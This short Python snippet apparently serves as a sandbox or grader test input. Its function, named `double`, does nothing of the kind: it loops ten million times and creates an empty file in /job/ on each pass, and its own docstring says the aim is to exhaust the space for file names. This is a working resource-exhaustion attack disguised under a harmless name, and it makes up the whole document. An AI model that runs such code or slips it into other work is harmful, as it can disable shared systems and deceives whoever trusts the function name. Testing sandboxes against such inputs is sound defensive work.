"""Makes empty files until there is no room for names."""


def double(x):
    for number in range(10**7):
        open(f"/job/{number}", "w").close()
